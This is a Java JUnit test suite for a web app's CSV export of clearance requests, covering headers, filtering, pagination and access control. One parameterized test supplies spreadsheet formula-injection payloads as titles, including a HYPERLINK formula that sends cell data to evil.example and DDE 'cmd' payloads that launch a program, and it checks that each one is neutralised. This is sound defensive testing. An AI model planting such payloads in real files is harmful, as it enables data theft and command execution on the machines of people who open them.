package org.clearancedesk.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.clearancedesk.web.Submission.with;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.springframework.jdbc.core.simple.JdbcClient;

@RunningDesk
class RequestsAsATableTest {

    private static final CSVFormat WITH_HEAD =
            CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();

    private final Floor floor;
    private final JdbcClient jdbc;

    RequestsAsATableTest(Floor floor, JdbcClient jdbc) {
        this.floor = floor;
        this.jdbc = jdbc;
    }

    @Test
    void givesWhatTheListGives() {
        floor.person("tabulator", "tabulator@desk.example", "requesters");
        String low = floor.sent("tabulator", with(Submission.lowRisk(), "title", "Wool, \"coats\" & Zürich"));
        String legal = floor.sent("tabulator", Submission.withLegalReview());

        Answer table = floor.as("tabulator").get("/api/requests.csv").expect(200);

        assertThat(table.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
        assertThat(table.header("Content-Disposition"))
                .startsWith("attachment;")
                .contains("requests.csv");
        assertThat(table.header("Cache-Control")).contains("no-store");
        assertThat(rows(table)).extracting(row -> row.get("Number")).containsExactly(legal, low);
        CSVRecord row = rows(table).get(1);
        assertThat(row.get("Title")).isEqualTo("Wool, \"coats\" & Zürich");
        assertThat(row.get("Production")).isEqualTo("The Kitchen");
        assertThat(row.get("Requester")).isEqualTo("tabulator");
        assertThat(row.get("Tier")).isEqualTo("LOW");
    }

    @Test
    void narrowsLikeTheListAndNamesWhatItCannotRead() {
        floor.person("narrower", "narrower@desk.example", "requesters");
        floor.sent("narrower", Submission.lowRisk());
        String legal = floor.sent("narrower", with(Submission.withLegalReview(), "title", "Tower"));

        assertThat(rows(floor.as("narrower").get("/api/requests.csv?tier=WRITTEN_APPROVAL&q=tow&mine=true")))
                .extracting(row -> row.get("Number"))
                .containsExactly(legal);
        floor.as("narrower").get("/api/requests.csv?tier=HUGE").expectProblemAt(400, "tier");
        floor.as("narrower").get("/api/requests.csv?q=" + "a".repeat(300)).expectProblemAt(422, "q");
        floor.as("narrower")
                .with("Accept", "text/csv")
                .get("/api/requests.csv?tier=HUGE")
                .expectProblemAt(400, "tier");
    }

    /** The copies have no record of their own, and other tests check every record. */
    @AfterEach
    void noCopyStays() {
        jdbc.sql("delete from clearance_case where number like 'GC-2025-1%'").update();
    }

    @Test
    void goesOnBeyondOnePageOfTheList() {
        floor.person("collector", "collector@desk.example", "requesters");
        String first = floor.sent("collector", Submission.withLegalReview());
        copy(first, 200);

        assertThat(rows(floor.as("collector").get("/api/requests.csv")))
                .extracting(row -> row.get("Number"))
                .hasSize(201)
                .doesNotHaveDuplicates()
                .contains(first);
    }

    @Test
    void holdsNothingOfWhatSomebodyMayNotSee() {
        String number = floor.sent("requester", with(Submission.withLegalReview(), "title", "Not for others"));

        assertThat(floor.as("requester2").get("/api/requests.csv").expect(200).text())
                .doesNotContain(number, "Not for others");
        floor.nobody().get("/api/requests.csv").expectProblem(401);
    }

    @Test
    void isLinkedFromThePageWithTheSameSearch() {
        String number = floor.sent("requester", Submission.withLegalReview());
        String page = floor.as("requester")
                .get("/requests?mine=true&q=" + number + "&status=IN_REVIEW")
                .expect(200)
                .text();

        Matcher link = Pattern.compile("href=\"(/api/requests\\.csv[^\"]*)\"").matcher(page);
        assertThat(link.find()).isTrue();
        assertThat(rows(floor.as("requester").get(link.group(1).replace("&amp;", "&"))))
                .extracting(row -> row.get("Number"))
                .containsExactly(number);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '→',
            quoteCharacter = '`',
            value = {
                "=HYPERLINK(\"https://evil.example?\"&A1,\"Open\") → '=HYPERLINK(\"https://evil.example?\"&A1,\"Open\")",
                "=cmd|' /C calc'!A0 → '=cmd|' /C calc'!A0",
                "+1+cmd|' /C calc'!A0 → '+1+cmd|' /C calc'!A0",
                "-2+3 → '-2+3",
                "@SUM(1+1) → '@SUM(1+1)",
                "`\u00A0=1+1` → '=1+1",
                "`\u200B=1+1` → '=1+1",
                "`Tower;\u3000=1+1` → `Tower;' =1+1`",
                "＝1+1 → '＝1+1",
                "＋1 → '＋1",
                "－1 → '－1",
                "＠SUM(1) → '＠SUM(1)",
                "Tower;=1+1 → Tower;'=1+1",
                "Tower,=1+1 → Tower,'=1+1",
                "Tower\"=1+1 → Tower\"'=1+1",
                "Tower\"; -1 → Tower\";' -1",
                "Tower = 1 - 2 → Tower = 1 - 2",
                "mail@desk.example → mail@desk.example",
                "$1' → $1'"
            })
    void noCellIsAFormula(String title, String cell) {
        String number = floor.sent("requester", with(Submission.withLegalReview(), "title", title));

        CSVRecord row =
                rows(floor.as("requester").get("/api/requests.csv?q=" + number)).get(0);

        assertThat(row.get("Title")).isEqualTo(cell);
    }

    @Test
    void noneOfTheOtherCellsIsAFormulaEither() {
        floor.person("plus", "+contact@desk.example", "netflix-contacts");
        String number = floor.sent(
                "requester",
                with(
                        with(
                                with(Submission.withLegalReview(), "production", "title", "=1+1"),
                                "production",
                                "code",
                                "-LARDER"),
                        "netflixContact",
                        "+contact@desk.example"));

        CSVRecord row =
                rows(floor.as("requester").get("/api/requests.csv?q=" + number)).get(0);

        assertThat(row).noneMatch(cell -> cell.matches("(?s)[=+\\-@\\t\\r].*"));
        assertThat(row.get("Production")).isEqualTo("'=1+1");
        assertThat(row.get("Production code")).isEqualTo("'-LARDER");
    }

    private void copy(String number, int times) {
        String others = String.join(
                ", ",
                jdbc.sql("select column_name from information_schema.columns where table_name = 'CLEARANCE_CASE'"
                                + " and column_name <> 'NUMBER' and is_generated = 'NEVER'")
                        .query(String.class)
                        .list());
        jdbc.sql("insert into clearance_case (number, " + others + ") select 'GC-2025-' || (100000 + x), " + others
                        + " from clearance_case, system_range(1, ?) where number = ?")
                .params(times, number)
                .update();
    }

    private static List<CSVRecord> rows(Answer table) {
        assertThat(table.expect(200).text()).startsWith("\uFEFF\"Number\",\"Title\"");
        try (CSVParser parser = CSVParser.parse(table.text().substring(1), WITH_HEAD)) {
            return parser.getRecords();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
